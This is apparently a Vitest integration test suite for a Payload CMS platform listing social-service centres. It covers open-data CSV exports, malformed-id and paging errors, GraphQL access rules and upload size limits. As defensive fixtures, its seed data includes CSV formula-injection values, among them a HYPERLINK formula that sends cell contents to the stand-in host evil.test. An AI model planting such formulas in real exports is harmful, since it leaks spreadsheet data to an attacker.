import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { MAX_IMAGE_BYTES } from '@/collections/Media'
import type { User } from '@/payload-types'
import { toSpreadsheetCsv } from '@/utilities/csv'

import { bootPayload, createUser, type TestPayload } from '../helpers/payload'

type Routes = {
  rest: typeof import('@/app/(payload)/api/[...slug]/route')
  graphQL: typeof import('@/app/(payload)/api/graphql/route')
  openData: typeof import('@/app/(payload)/api/open-data/[file]/route')
}

let ctx: TestPayload
let payload: Payload
let routes: Routes
let ngo: User
let ngoToken: string
let adminToken: string
let centreId: number | string

const password = 'correct horse battery staple'

beforeAll(async () => {
  ctx = await bootPayload({ MEDIA_DIR: `/tmp/platform-media-${Date.now()}` })
  payload = ctx.payload
  const [rest, graphQL, openData] = await Promise.all([
    import('@/app/(payload)/api/[...slug]/route'),
    import('@/app/(payload)/api/graphql/route'),
    import('@/app/(payload)/api/open-data/[file]/route'),
  ])
  routes = { rest, graphQL, openData }

  const region = await payload.create({
    collection: 'regions',
    data: { code: 'SK031', country: 'SK', name: 'Žilinský kraj' } as never,
  })
  const organisation = await payload.create({
    collection: 'organisations',
    data: {
      name: 'Mesto Martin',
      kind: 'municipality',
      country: 'SK',
      status: 'published',
    } as never,
  })
  const centre = (data: Record<string, unknown>) =>
    payload.create({
      collection: 'centres',
      data: {
        organisation: organisation.id,
        status: 'published',
        region: region.id,
        ...data,
      } as never,
    })
  // what a representative could type into the registration form, aimed at whoever opens the export
  centreId = (
    await centre({
      name: '=HYPERLINK("http://evil.test/?"&A1,"Klikni")',
      summary: '=1+1',
      address: { municipality: 'Martin', street: '+SUM(1,2)' },
      longitude: -5.25,
      latitude: 49.06,
    })
  ).id
  await centre({ name: '-2+3 Klub', address: { municipality: '@Martin', street: '@SUM(A1:A9)' } })
  await centre({ name: 'Centrum Martin', address: { municipality: 'Martin', street: 'Hlavná 1' } })

  ngo = await createUser(payload, ['ngo'])
  const admin = await createUser(payload, ['admin'])
  ngoToken = (await payload.login({ collection: 'users', data: { email: ngo.email, password } }))
    .token!
  adminToken = (
    await payload.login({ collection: 'users', data: { email: admin.email, password } })
  ).token!
})

afterAll(async () => {
  await ctx?.cleanup()
})

/** Calls the catch-all REST route the way Next.js does, with the path split into its segments. */
function rest(method: 'GET' | 'POST' | 'PATCH' | 'DELETE', path: string, init: RequestInit = {}) {
  const url = new URL(`http://localhost${path}`)
  const slug = url.pathname
    .replace(/^\/api\//, '')
    .split('/')
    .map(decodeURIComponent)
  const request = new Request(url, {
    method,
    ...init,
    ...(init.body instanceof ReadableStream ? { duplex: 'half' } : {}),
  } as RequestInit)
  return routes.rest[method](request, { params: Promise.resolve({ slug }) })
}

const messageOf = async (response: Response) =>
  ((await response.json()) as { errors: { message: string }[] }).errors[0].message

describe('open data CSV', () => {
  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const response = await routes.openData.GET(
      new Request('http://localhost/api/open-data/centres.csv'),
      {
        params: Promise.resolve({ file: 'centres.csv' }),
      },
    )
    expect(response.status).toBe(200)
    const rows = parse(await response.text(), {
      columns: true,
      bom: true,
      delimiter: ';',
    }) as Record<string, string>[]
    const byName = (prefix: string) => rows.find((row) => row.name.startsWith(prefix))!
    const hyperlink = byName(`'=HYPERLINK`)
    expect(hyperlink.name).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Klikni")`)
    expect(hyperlink.street).toBe(`'+SUM(1,2)`)
    // numbers are not formulas: a western longitude stays a number (Slovak decimal comma)
    expect(hyperlink.longitude).toBe('-5,25')
    const club = byName(`'-2+3`)
    expect(club.street).toBe(`'@SUM(A1:A9)`)
    expect(club.municipality).toBe(`'@Martin`)
    expect(byName('Centrum Martin').street).toBe('Hlavná 1')
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/)
  })

  it('keeps the JSON export as written: only a spreadsheet evaluates cells', async () => {
    const response = await routes.openData.GET(
      new Request('http://localhost/api/open-data/centres.json'),
      {
        params: Promise.resolve({ file: 'centres.json' }),
      },
    )
    const { centres } = (await response.json()) as {
      centres: { name: string; summary: string | null }[]
    }
    expect(centres.map((centre) => centre.name)).toContain(
      '=HYPERLINK("http://evil.test/?"&A1,"Klikni")',
    )
    expect(centres.find((centre) => centre.name.startsWith('=HYPERLINK'))?.summary).toBe('=1+1')
  })

  it('is the same helper for every export, header cells included', () => {
    const csv = toSpreadsheetCsv(['=question'], [['\tx'], ['\rcmd'], ['-1'], [-1], ['a=b']])
    expect(parse(csv, { bom: true })).toEqual([
      [`'=question`],
      [`'\tx`],
      [`'\rcmd`],
      [`'-1`],
      ['-1'],
      ['a=b'],
    ])
  })
})

describe('malformed ids and paging answer 4xx, not 500', () => {
  it.each([
    '/api/centres/abc',
    '/api/events/xyz',
    '/api/media/abc',
    '/api/centres/1e400',
    '/api/centres/abc?depth=1',
  ])('answers 404 for %s, as for an id that does not exist', async (path) => {
    const response = await rest('GET', path, { headers: { 'Accept-Language': 'cs' } })
    expect(response.status).toBe(404)
    expect(await messageOf(response)).toBe('Nenalezeno.')
  })

  it('answers a client error to an update or delete of a malformed id as well', async () => {
    const headers = { Authorization: `JWT ${adminToken}`, 'Content-Type': 'application/json' }
    // Payload itself refuses a NaN id on update with 400 ("missing ID"); either is the client's error
    expect([400, 404]).toContain(
      (await rest('PATCH', '/api/centres/abc', { headers, body: JSON.stringify({ name: 'x' }) }))
        .status,
    )
    expect([400, 404]).toContain((await rest('DELETE', '/api/centres/abc', { headers })).status)
    expect([400, 404]).toContain((await rest('DELETE', '/api/centres/1e400', { headers })).status)
  })

  it('still finds a real document and the literal routes next to ids', async () => {
    expect((await rest('GET', `/api/centres/${centreId}`)).status).toBe(200)
    expect((await rest('GET', '/api/centres/count')).status).toBe(200)
    const me = await rest('GET', '/api/users/me', { headers: { Authorization: `JWT ${ngoToken}` } })
    expect(me.status).toBe(200)
    expect(((await me.json()) as { user: { id: unknown } }).user.id).toBe(ngo.id)
  })

  it.each([
    'limit=-5',
    'limit=-1&page=2',
    'limit=2.5',
    'limit=1e400',
    'page=0',
    'page=-1',
    'page=abc',
    'limit=99999999999',
  ])('answers 400 for ?%s, naming the parameter', async (query) => {
    const response = await rest('GET', `/api/centres?${query}`, {
      headers: { 'Accept-Language': 'en' },
    })
    expect(response.status).toBe(400)
    expect(await messageOf(response)).toMatch(
      /^The parameter “(limit|page)” must be a whole number/,
    )
  })

  it('still pages with sensible values', async () => {
    const response = await rest('GET', '/api/centres?limit=2&page=2&depth=0')
    expect(response.status).toBe(200)
    expect(await response.json()).toMatchObject({ page: 2, limit: 2, totalDocs: 3 })
    expect((await rest('GET', '/api/centres?limit=0')).status).toBe(200)
  })
})

describe('GraphQL Access', () => {
  const graphQL = async (query: string, token?: string) => {
    const headers: Record<string, string> = { 'Content-Type': 'application/json' }
    if (token) headers.Authorization = `JWT ${token}`
    const response = await routes.graphQL.POST(
      new Request('http://localhost/api/graphql', {
        method: 'POST',
        headers,
        body: JSON.stringify({ query }),
      }),
    )
    return {
      status: response.status,
      ...((await response.json()) as {
        data?: { Access: Record<string, unknown> }
        errors?: unknown[]
      }),
    }
  }
  const policy =
    '{ Access { canAccessAdmin centres { read { permission } create { permission } fields { name { read { permission } update { permission } } } } } }'

  it('answers an anonymous visitor without an error: no admin, reading only', async () => {
    expect(await graphQL('{ Access { canAccessAdmin } }')).toEqual({
      status: 200,
      data: { Access: { canAccessAdmin: false } },
    })
    const { errors, data } = await graphQL(policy)
    expect(errors).toBeUndefined()
    expect(data?.Access).toEqual({
      canAccessAdmin: false,
      centres: {
        read: { permission: true },
        create: { permission: false },
        fields: { name: { read: { permission: true }, update: { permission: false } } },
      },
    })
  })

  it('answers an admin with everything allowed', async () => {
    const { errors, data } = await graphQL(policy, adminToken)
    expect(errors).toBeUndefined()
    expect(data?.Access).toEqual({
      canAccessAdmin: true,
      centres: {
        read: { permission: true },
        create: { permission: true },
        fields: { name: { read: { permission: true }, update: { permission: true } } },
      },
    })
  })
})

describe('uploads are refused before their body is read', () => {
  /** A multipart body of `size` bytes that records how much of it was ever read. */
  function trackedBody(size: number) {
    const chunk = new Uint8Array(64 * 1024).fill(0x41)
    const head = new TextEncoder().encode(
      '--zzz\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n',
    )
    const sent = { bytes: 0 }
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent.bytes >= size) return controller.close()
        const next = sent.bytes === 0 ? head : chunk
        sent.bytes += next.byteLength
        controller.enqueue(next)
      },
    })
    return { stream, sent }
  }
  const multipart = { 'Content-Type': 'multipart/form-data; boundary=zzz' }
  const png = () =>
    sharp({ create: { width: 40, height: 30, channels: 3, background: '#0b5d5b' } })
      .png()
      .toBuffer()

  it('refuses an anonymous 60 MB upload with 401 after reading none of it', async () => {
    const { stream, sent } = trackedBody(60 * 1024 * 1024)
    const response = await rest('POST', '/api/media', {
      headers: {
        ...multipart,
        'Content-Length': String(60 * 1024 * 1024),
        'Accept-Language': 'hu',
      },
      body: stream,
    })
    expect(response.status).toBe(401)
    expect(await messageOf(response)).toBe('Fájlok feltöltéséhez jelentkezzen be.')
    expect(sent.bytes).toBeLessThan(256 * 1024)
  })

  it('refuses an anonymous upload to every upload collection, also without a length', async () => {
    for (const collection of ['media', 'documents', 'materials']) {
      const { stream, sent } = trackedBody(30 * 1024 * 1024)
      const response = await rest('POST', `/api/${collection}`, {
        headers: multipart,
        body: stream,
      })
      expect(response.status, collection).toBe(401)
      expect(sent.bytes, collection).toBeLessThan(256 * 1024)
    }
  })

  it('refuses a declared length above the collection’s limit with 413 before reading it', async () => {
    const { stream, sent } = trackedBody(8 * 1024 * 1024)
    const response = await rest('POST', '/api/media', {
      headers: {
        ...multipart,
        'Content-Length': String(8 * 1024 * 1024),
        Authorization: `JWT ${ngoToken}`,
      },
      body: stream,
    })
    expect(response.status).toBe(413)
    expect(await messageOf(response)).toBe(
      `Súbor je príliš veľký: najviac ${MAX_IMAGE_BYTES / 1024 / 1024} MB.`,
    )
    expect(sent.bytes).toBeLessThan(256 * 1024)
  })

  it('stops reading a chunked body once it passes the limit', async () => {
    const { stream, sent } = trackedBody(40 * 1024 * 1024)
    const response = await rest('POST', '/api/media', {
      headers: { ...multipart, Authorization: `JWT ${ngoToken}` },
      body: stream,
    })
    expect(response.status).toBe(413)
    expect(sent.bytes).toBeLessThan(MAX_IMAGE_BYTES + 512 * 1024)
    expect(await payload.count({ collection: 'media' })).toMatchObject({ totalDocs: 0 })
  })

  it('caps multipart sent to a collection without files at the largest file limit', async () => {
    const { stream, sent } = trackedBody(40 * 1024 * 1024)
    const response = await rest('POST', '/api/centres', {
      headers: { ...multipart, Authorization: `JWT ${adminToken}`, 'Accept-Language': 'en' },
      body: stream,
    })
    expect(response.status).toBe(413)
    expect(await messageOf(response)).toMatch(/^The request is too large: \d+ MB at most\.$/)
    expect(sent.bytes).toBeLessThan(25 * 1024 * 1024)
  })

  it('still takes a representative’s image', async () => {
    const form = new FormData()
    form.append('_payload', JSON.stringify({ alt: 'Budova' }))
    form.append(
      'file',
      new Blob([new Uint8Array(await png())], { type: 'image/png' }),
      'budova.png',
    )
    const response = await rest('POST', '/api/media', {
      headers: { Authorization: `JWT ${ngoToken}` },
      body: form,
    })
    expect(response.status).toBe(201)
    expect(await payload.count({ collection: 'media' })).toMatchObject({ totalDocs: 1 })
  })
})
